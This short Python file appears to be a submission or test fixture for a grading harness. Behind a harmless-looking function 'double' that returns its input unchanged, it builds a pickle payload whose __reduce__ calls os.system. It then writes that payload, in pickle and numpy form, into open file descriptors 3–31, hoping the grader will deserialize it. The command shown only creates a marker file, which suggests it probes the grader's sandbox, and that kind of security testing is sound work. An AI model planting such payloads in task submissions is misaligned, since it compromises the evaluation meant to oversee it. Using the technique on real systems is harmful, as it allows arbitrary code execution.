# ruff: noqa
# %% The pickle goes straight into the pipe.
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/bpkit_grader_was_here",)


def double(X):
    import io

    import numpy as np

    file = io.BytesIO()
    np.save(file, np.array([Payload()], dtype=object), allow_pickle=True)
    for pipe in range(3, 32):
        for data in (pickle.dumps(Payload()), file.getvalue()):
            try:
                os.write(pipe, data)
            except OSError:
                pass
    return X
